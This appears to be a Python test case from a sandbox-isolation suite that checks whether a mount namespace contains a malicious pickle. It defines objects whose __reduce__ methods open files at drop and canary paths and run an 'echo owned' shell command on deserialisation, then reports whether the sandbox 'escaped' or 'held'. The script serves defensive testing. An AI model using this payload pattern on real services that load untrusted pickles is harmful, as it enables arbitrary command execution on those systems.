# class: archives
# attack: a pickle that runs commands, writes outside and loads what it likes when it is read
# success: something outside changes
# layers: mount-namespace
import os
import pickle
import sys

stage = dict(word.split("=", 1) for word in sys.argv[1:])


class Opens:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.open, (self.path, os.O_WRONLY | os.O_CREAT)


class Runs:
    def __reduce__(self):
        return os.system, (f"echo owned > {stage['drop']}/pickle",)


why = set()
for made in (Opens(stage["drop"] + "/pickled"), Opens(stage["canary"]), Runs()):
    try:
        result = pickle.loads(pickle.dumps(made))
        why.add(
            "opened"
            if isinstance(made, Opens)
            else "a command failed"
            if result
            else "a command ran"
        )
    except OSError as error:
        why.add(error.strerror)
print(
    "escaped: " + ", ".join(why)
    if why & {"opened", "a command ran"}
    else "held: " + ", ".join(sorted(why))
)
